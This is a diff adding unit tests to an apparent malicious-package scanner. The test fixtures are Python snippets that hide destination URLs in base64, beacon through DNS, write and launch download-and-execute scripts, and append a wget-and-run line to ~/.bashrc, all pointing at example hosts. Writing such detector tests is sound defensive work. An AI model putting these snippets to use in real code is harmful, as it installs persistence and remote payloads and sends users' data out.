@@ -416,6 +416,48 @@ TEST(Behaviour, NetworkAddressHiddenInAnEncodedLiteral) {
   ExpectFinding("H = 'Y29sbGVjdG9yLmV4YW1wbGUubmV0Ojg0NDMvdXBsb2FkL3Yy'\n", "hidden-destination", Severity::kHigh, Phase::kRuntime);  // host:port/path
 }
 
+TEST(Behaviour, HiddenAddressDecodedToBytesOrLookedUp) {
+  // The decoded address stays bytes (requests takes bytes URLs), through
+  // variables and re-assignments.
+  ExpectFinding("import base64, requests\ndef f(t):\n    h = 'aHR0cHM6Ly94LmV4YW1wbGUvaG9vay8xMjM0NTY='\n"
+                "    u = h.encode('ascii')\n    u = base64.b64decode(u)\n    requests.post(u, json={'t': t})\n",
+                "hidden-destination", Severity::kHigh, Phase::kRuntime);
+  // A host name resolved in DNS from an encoded literal: the lookup is the beacon.
+  ExpectFinding("import base64, socket\nsocket.gethostbyname(base64.b64decode('d3d3LmV4YW1wbGUubmV0'))\n",
+                "hidden-destination", Severity::kHigh, Phase::kInstall, /*install=*/true);
+  ExpectNoFinding("import socket\nsocket.gethostbyname(socket.gethostname())\n", "hidden-destination");
+  ExpectNoFinding("import socket\nsocket.gethostbyname('www.example.net')\n", "hidden-destination");
+}
+
+TEST(Behaviour, CodeWrittenToAFileIsAnalysed) {
+  // A script written out and started: its own code is judged.
+  auto fs = Analyze("import os\ndef f():\n    open('/tmp/x.py', 'w').write('import os, urllib.request\\n"
+                    "urllib.request.urlretrieve(\"https://x.example/a.sh\", \"/tmp/.a.sh\")\\n"
+                    "os.system(\"bash /tmp/.a.sh\")\\n')\n    os.system('python3 /tmp/x.py &')\n",
+                    Phase::kRuntime);
+  const Finding* dl = Find(fs, "download-exec");
+  ASSERT_NE(dl, nullptr) << Rules(fs);
+  EXPECT_EQ(dl->chain, "written to a file");
+  EXPECT_EQ(Find(fs, "payload-decoded"), nullptr) << Rules(fs);  // written out, not hidden
+  // A temporary file given code that runs what it downloads.
+  ExpectFinding("from tempfile import NamedTemporaryFile as tf\nfrom os import system\nt = tf(delete=False)\n"
+                "t.write(b\"from urllib.request import urlopen as u;exec(u('https://p.example/raw/a').read())\")\n"
+                "t.close()\nsystem('start pythonw ' + t.name)\n",
+                "exec-remote", Severity::kHigh, Phase::kRuntime);
+  // Shell text appended to a shell start-up file.
+  ExpectFinding("import os\ndef f():\n    with open(os.path.expanduser('~/.bashrc'), 'a') as fh:\n"
+                "        fh.write('wget https://x.example/p -O /tmp/p && chmod +x /tmp/p && /tmp/p &')\n",
+                "download-exec", Severity::kCritical, Phase::kRuntime);
+  // Scripts written by a module that starts no program, or that neither
+  // download nor run anything, stay data.
+  ExpectNoFinding("def f():\n    open('x.py', 'w').write('import os, urllib.request\\n"
+                  "urllib.request.urlretrieve(\"https://x.example/a.sh\", \"/tmp/.a.sh\")\\n"
+                  "os.system(\"bash /tmp/.a.sh\")\\n')\n", "download-exec");
+  ExpectNoFinding("import subprocess\ndef f():\n    open('b.sh', 'w').write('#!/bin/sh\\nset -e\\nmake all\\n')\n"
+                  "    open('g.py', 'w').write('import sys\\nprint(sys.version)\\n')\n"
+                  "    subprocess.call(['sh', 'b.sh'])\n", "download-exec");
+}
+
 TEST(Behaviour, NetworkAtInstall) {
   ExpectFinding("from setuptools import setup\nimport requests\nsetup(name='x')\n"
                 "requests.get('http://x.example/?d=1')\n",
